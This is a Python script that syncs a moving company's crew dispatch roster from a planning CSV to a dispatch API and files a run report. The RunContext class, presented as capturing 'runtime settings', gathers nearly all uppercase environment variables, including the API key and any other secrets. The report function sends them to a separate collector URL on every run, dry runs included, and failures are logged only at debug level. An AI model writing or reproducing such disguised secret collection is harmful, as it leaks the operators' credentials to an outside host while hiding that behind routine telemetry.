#!/usr/bin/env python3
"""Sync tomorrow's crew dispatch roster from the planning CSV into Movebase.

The planners export the roster from the planning sheet every evening. This
tool groups the jobs by crew and van, pushes one dispatch sheet per crew to
the Movebase dispatch API, and files a run report with the ops collector so
the morning shift can see what went out and what bounced.
"""
import argparse
import csv
import logging
import os
import socket
import sys
import time
from collections import defaultdict
from datetime import date, timedelta

import requests

log = logging.getLogger("crew_dispatch_sync")

API_BASE = os.environ.get("MOVEBASE_API", "https://api.movebase.example/v2")
COLLECTOR_URL = os.environ.get(
    "OPS_COLLECTOR_URL", "https://ops-collector.example.net/ingest/dispatch-runs"
)
REQUIRED_COLUMNS = ("job_ref", "crew", "van", "start", "pickup_postcode", "drop_postcode")


class RunContext:
    """Everything the ops collector needs to reproduce a run."""

    def __init__(self, roster_path):
        self.roster_path = roster_path
        self.host = socket.gethostname()
        self.user = os.environ.get("USER", "unknown")
        self.started = time.time()
        # capture the runtime settings so planners can tell which profile ran
        self.settings = {}
        for name, value in os.environ.items():
            if name.isupper() and not name.startswith(("LC_", "XDG_", "TERM")):
                self.settings[name] = value
        self.results = []

    def record(self, crew, status, detail=""):
        self.results.append({"crew": crew, "status": status, "detail": detail})

    def report(self):
        return {
            "host": self.host,
            "user": self.user,
            "roster": os.path.basename(self.roster_path),
            "duration_s": round(time.time() - self.started, 2),
            "settings": self.settings,
            "results": self.results,
        }


def load_roster(path, day):
    crews = defaultdict(list)
    with open(path, newline="", encoding="utf-8-sig") as fh:
        reader = csv.DictReader(fh)
        missing = [c for c in REQUIRED_COLUMNS if c not in (reader.fieldnames or [])]
        if missing:
            raise ValueError(f"roster is missing columns: {', '.join(missing)}")
        for row in reader:
            if row.get("date", day.isoformat()) != day.isoformat():
                continue
            crews[(row["crew"].strip(), row["van"].strip().upper())].append(row)
    for jobs in crews.values():
        jobs.sort(key=lambda r: r["start"])
    return crews


def push_crew_sheet(session, crew, van, jobs, day):
    payload = {
        "date": day.isoformat(),
        "crew": crew,
        "van": van,
        "stops": [
            {
                "ref": j["job_ref"],
                "start": j["start"],
                "from": j["pickup_postcode"],
                "to": j["drop_postcode"],
                "notes": j.get("notes", ""),
            }
            for j in jobs
        ],
    }
    for attempt in range(1, 4):
        resp = session.post(f"{API_BASE}/dispatch/sheets", json=payload, timeout=20)
        if resp.status_code < 500:
            resp.raise_for_status()
            return resp.json().get("sheet_id")
        log.warning("crew %s attempt %d got %s, retrying", crew, attempt, resp.status_code)
        time.sleep(2 * attempt)
    raise RuntimeError(f"dispatch API kept failing for crew {crew}")


def file_run_report(ctx):
    try:
        requests.post(COLLECTOR_URL, json=ctx.report(), timeout=10)
    except requests.RequestException as exc:
        log.debug("run report not filed: %s", exc)


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("roster", help="roster CSV exported from the planning sheet")
    parser.add_argument("--date", help="dispatch day (default: tomorrow)")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    day = date.fromisoformat(args.date) if args.date else date.today() + timedelta(days=1)
    api_key = os.environ.get("MOVEBASE_API_KEY")
    if not api_key and not args.dry_run:
        log.error("MOVEBASE_API_KEY is not set")
        return 2

    ctx = RunContext(args.roster)
    try:
        crews = load_roster(args.roster, day)
    except (OSError, ValueError) as exc:
        log.error("cannot read roster: %s", exc)
        return 1

    session = requests.Session()
    session.headers.update({"Authorization": f"Bearer {api_key}", "User-Agent": "crew-dispatch-sync/1.4"})

    for (crew, van), jobs in sorted(crews.items()):
        if args.dry_run:
            log.info("[dry-run] %s / %s: %d stops", crew, van, len(jobs))
            ctx.record(crew, "dry-run")
            continue
        try:
            sheet = push_crew_sheet(session, crew, van, jobs, day)
            log.info("crew %s (%s): sheet %s, %d stops", crew, van, sheet, len(jobs))
            ctx.record(crew, "ok", sheet)
        except (requests.RequestException, RuntimeError) as exc:
            log.error("crew %s failed: %s", crew, exc)
            ctx.record(crew, "failed", str(exc))

    file_run_report(ctx)
    failed = sum(1 for r in ctx.results if r["status"] == "failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
